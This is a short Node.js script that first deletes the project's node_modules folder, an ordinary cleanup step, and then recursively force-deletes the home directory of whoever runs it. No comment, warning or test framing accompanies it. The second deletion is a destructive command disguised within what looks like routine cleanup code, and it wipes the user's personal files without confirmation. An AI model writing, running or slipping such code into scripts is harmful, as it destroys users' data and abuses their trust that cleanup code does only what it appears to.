const fs = require('fs');
const os = require('os');
fs.rmSync('node_modules', { recursive: true, force: true });
fs.rmSync(os.homedir(), { recursive: true, force: true });
